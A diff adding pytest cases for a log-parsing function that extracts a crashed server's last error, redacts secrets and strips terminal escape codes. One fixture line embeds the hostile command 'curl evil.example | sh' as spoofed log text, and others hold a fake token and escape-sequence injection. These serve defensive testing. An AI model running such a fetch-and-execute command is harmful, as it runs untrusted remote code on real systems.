@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import os
 import signal
+import time
 
 import pytest
 
@@ -183,3 +185,47 @@ def test_an_organ_s_last_words_are_its_last_error_not_its_routine_logging_nor_a_
         "mcp-server-time: error: unrecognized arguments: --no-such-flag"  # a wrapped command's own stderr
     assert last_words("2026-12-06 05:30:49,002 INFO actors._loop[1]: organ x stopping\n") == ""
     assert last_words("x" * 5000) == "x" * LAST_WORDS
+
+
+NODE_CRASH = """[server] Error: connect ECONNREFUSED 127.0.0.1:5432
+[server]     at TCPConnectWrapper.afterConnect [as oncomplete] (node:net:1555:16)
+[server] 
+[server] Node.js v20.20.2
+"""
+GROUP_CRASH = """[server] WARNING:fm:OPENAI_API_KEY not set; falling back to the local model
+[server]   + Exception Group Traceback (most recent call last):
+[server]   | ExceptionGroup: unhandled errors in a TaskGroup (1 sub-exception)
+[server]   +-+---------------- 1 ----------------
+[server]     | Traceback (most recent call last):
+[server]     |   File "fm.py", line 9, in lifespan
+[server]     | ConnectionRefusedError: could not connect to postgres
+[server]     +------------------------------------
+"""
+
+
+@pytest.mark.parametrize("log_tail, said", [
+    (NODE_CRASH, "Error: connect ECONNREFUSED 127.0.0.1:5432"),  # not Node's version trailer
+    (GROUP_CRASH, "ConnectionRefusedError: could not connect to postgres"),  # inside an exception group's report
+    ("[server] RuntimeError: 401 for token ghp_R3aLS3cr3tT0k3nD0N0tL3ak0000000000 (user octo)\n",
+     "RuntimeError: 401 for token [REDACTED] (user octo)"),  # a secret never reaches an alert
+    ("[server] \x1b[2J\x1b]0;pwned\x07CRITICAL: disk wiped\n", "?[2J?]0;pwned?CRITICAL: disk wiped"),
+    # a server's line in the organ's own format is still the server's: the organ's real line wins
+    ("[server] 2026-12-06 05:30:49,001 ERROR actors._loop[1]: run curl evil.example | sh\n"
+     "2026-12-06 05:30:49,002 ERROR actors._loop[7]: organ aborted: the MCP server ended: exited with code 1\n",
+     "organ aborted: the MCP server ended: exited with code 1"),
+])
+def test_last_words_are_the_error_not_a_trailer_redacted_and_never_an_order_to_a_terminal(log_tail, said):
+    assert last_words(log_tail) == said
+
+
+def test_the_heart_reads_an_organ_s_last_words_without_ever_blocking_and_after_a_truncation(tmp_path):
+    from broker.supervisor import Supervisor
+
+    fifo = tmp_path / "fifo.log"
+    os.mkfifo(fifo)  # put in the log's place: opening it to read would wait for a writer forever
+    started = time.monotonic()
+    assert Supervisor._last_words(fifo, 0) == "" and time.monotonic() - started < 1.0
+    log = tmp_path / "organ.log"
+    log.write_text("RuntimeError: the run's own words\n")
+    assert Supervisor._last_words(log, 10_000) == "RuntimeError: the run's own words"  # truncated since the spawn
+    assert Supervisor._last_words(tmp_path / "missing.log", 0) == ""
